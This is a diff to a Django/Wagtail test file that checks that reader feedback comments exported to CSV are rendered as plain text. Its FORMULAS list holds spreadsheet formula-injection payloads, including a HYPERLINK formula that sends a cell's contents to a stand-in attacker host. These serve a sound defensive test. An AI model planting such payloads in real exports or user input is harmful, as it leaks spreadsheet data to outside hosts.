@@ -12,10 +12,11 @@ from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from base.reports import SafeExportMixin
 from feedback.models import Feedback
-from guides.models import GuidePage
 from search.models import SearchQueryStat
 
-pytestmark = pytest.mark.django_db
+from .factories import GuidePageFactory
+
+pytestmark = [pytest.mark.django_db, pytest.mark.focused]
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-1+2", "@SUM(1)", "\tx", "\rx"]
 
@@ -29,8 +30,8 @@ def cells(table):
     return {cell for row in table[1:] for cell in row}
 
 
-def test_reader_comments_are_exported_as_text(admin_client):
-    page = GuidePage.objects.filter(locale__language_code="en").first()
+def test_reader_comments_are_exported_as_text(admin_client, home):
+    page = GuidePageFactory(parent__parent=home)
     for comment in FORMULAS:
         Feedback.objects.create(page=page, locale_id=page.locale_id, helpful=False, comment=comment)
     exported = cells(rows(admin_client.get("/admin/feedback/", {"export": "csv"})))
